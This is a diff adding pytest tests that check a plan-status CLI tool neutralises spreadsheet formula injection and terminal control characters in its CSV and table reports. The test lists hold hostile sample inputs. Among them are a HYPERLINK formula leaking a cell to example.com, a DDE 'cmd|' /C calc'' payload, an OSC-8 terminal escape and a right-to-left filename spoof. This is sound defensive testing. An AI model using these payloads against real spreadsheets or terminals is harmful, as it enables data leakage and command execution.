@@ -5,11 +5,13 @@ from __future__ import annotations
 import csv
 import io
 import json
+from pathlib import Path
 
 import pytest
 from click.testing import CliRunner
 
 from plandoc.cli import main
+from plandoc.status import spreadsheet_cell
 
 TODAY = "2026-12-01"
 
@@ -118,3 +120,123 @@ def test_names_only_when_asked_and_sorted_by_due_date(tmp_path, plan_data):
         "PLAN",
         "CLIENT",
     ]
+
+
+# --- what the report may hold ----------------------------------------------------
+
+FORMULAS = [
+    '=HYPERLINK("http://example.com/?leak="&A2,"Click")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "\t=1+1",
+    "\r=1+1",
+    " =1+1",
+    '"=1+1"',
+    "\uff1d1+1",  # a full-width equals sign
+    "Dana;=1+1",  # where `;` separates cells (some locales), a cell would start here
+]
+
+
+def _plans_named(tmp_path, plan_data, names):
+    folder = tmp_path / "plans"
+    folder.mkdir()
+    for number, name in enumerate(names):
+        plan_data["plan"]["id"] = f"P-{number}"
+        plan_data["plan"]["review_by"] = "2026-11-30"  # overdue as of TODAY: days left -1
+        plan_data["client"]["name"] = name
+        (folder / f"{number}.json").write_text(json.dumps(plan_data))
+    return folder
+
+
+def test_csv_cells_never_start_a_formula_in_a_spreadsheet(tmp_path, plan_data):
+    """OWASP CSV injection: text that would start a formula is prefixed with a quote."""
+    folder = _plans_named(tmp_path, plan_data, [*FORMULAS, "Dana Okafor"])
+    result = CliRunner().invoke(
+        main, ["status", str(folder), "--as-of", TODAY, "--format", "csv", "--show-names"]
+    )
+    assert result.exit_code == 0, result.output
+    rows = list(csv.DictReader(io.StringIO(result.stdout)))
+    by_id = {row["plan_id"]: row for row in rows}
+    for number, name in enumerate(FORMULAS[:-1]):  # (a plan's name is read without its spaces)
+        assert by_id[f"P-{number}"]["client"] == "'" + name.strip()  # as typed, not evaluated
+    assert ',"Dana;=1+1"' in result.stdout  # every text cell is quoted: `;` splits nothing
+    assert by_id[f"P-{len(FORMULAS)}"]["client"] == "Dana Okafor"  # plain text is untouched
+    for row in rows:  # numbers plandoc computes stay numbers, even negative ones
+        assert row["days_left"] == "-1" and row["version"] == "2"
+        assert row["file"].startswith(str(folder))
+
+
+@pytest.mark.parametrize("text", [*FORMULAS[:-1], "\r", "\n=1", "\x00=1", " \t'=1", "'@x"])
+def test_any_text_that_could_start_a_formula_gets_a_quote(text):
+    assert spreadsheet_cell(text) == "'" + text
+
+
+@pytest.mark.parametrize("value", ["Dana Okafor", "a=b", "TP-1", "", "2026-12-01", -3, 2, None])
+def test_other_cells_are_left_as_they_are(value):
+    assert spreadsheet_cell(value) == value
+
+
+def test_a_file_path_that_would_start_a_formula_is_neutralized_too(
+    tmp_path, plan_data, monkeypatch
+):
+    monkeypatch.chdir(tmp_path)
+    Path("=cmd").mkdir()
+    Path("=cmd/p.json").write_text(json.dumps(plan_data))
+    Path("=cmd/broken.json").write_text("{")
+    result = CliRunner().invoke(
+        main, ["status", "=cmd", "--as-of", TODAY, "--format", "csv", "--show-names"]
+    )
+    files = [row["file"] for row in csv.DictReader(io.StringIO(result.stdout))]
+    assert len(files) == 2 and all(file.startswith("'=cmd") for file in files), files
+
+
+def test_the_table_never_sends_control_characters_to_the_terminal(tmp_path, plan_data):
+    names = [
+        "Dana\x1b]8;;http://example.com\x07link\x1b]8;;\x07",
+        "Evil\u202egnp.exe",
+        "Two\nLines",
+    ]
+    folder = _plans_named(tmp_path, plan_data, names)
+    result = CliRunner().invoke(
+        main, ["status", str(folder), "--as-of", TODAY, "--format", "table", "--show-names"]
+    )
+    assert result.exit_code == 0, result.output
+    assert "\x1b" not in result.stdout and "\x07" not in result.stdout
+    assert "\u202e" not in result.stdout and "Dana\\x1b]8;;" in result.stdout
+    assert len(result.stdout.splitlines()) == 1 + len(names)  # a name never breaks a row
+
+
+@pytest.mark.parametrize("report_format", ["json", "csv", "table"])
+def test_an_unreadable_plan_is_named_by_its_file_key_unless_names_are_asked_for(
+    tmp_path, report_format
+):
+    folder = tmp_path / "plans"
+    folder.mkdir()
+    (folder / "dana-okafor.json").write_text("{")
+    args = ["status", str(folder), "--as-of", TODAY, "--format", report_format]
+    hidden = CliRunner().invoke(main, args)
+    assert hidden.exit_code == 0 and "okafor" not in hidden.stdout, hidden.stdout
+    key = json.loads(CliRunner().invoke(main, ["validate", str(folder), "--format", "json"]).stdout)
+    key = key["plans"][0]["file_key"]
+    if report_format == "json":  # the same key as `validate --format json` gives the file
+        (row,) = json.loads(hidden.stdout)
+        assert row["file_key"] == key and row["flags"] == ["invalid"] and "file" not in row
+    elif report_format == "table":
+        assert key in hidden.stdout
+    shown = CliRunner().invoke(main, [*args, "--show-names"])
+    assert str(folder / "dana-okafor.json") in shown.stdout
+
+
+def test_a_plan_id_without_an_ids_shape_is_never_shown(tmp_path, plan_data):
+    plan_data["plan"]["id"] = "=Dana Okafor 1988"
+    folder = tmp_path / "plans"
+    folder.mkdir()
+    (folder / "p.json").write_text(json.dumps(plan_data))
+    for report_format in ("json", "csv", "table"):
+        args = ["status", str(folder), "--as-of", TODAY, "--format", report_format]
+        for extra in ([], ["--show-names"]):
+            result = CliRunner().invoke(main, [*args, *extra])
+            assert result.exit_code == 0 and "Dana Okafor 1988" not in result.stdout
+    (row,) = json.loads(CliRunner().invoke(main, [*args[:-1], "json"]).stdout)
+    assert row["plan_id"] == "?" and "invalid" in row["flags"]
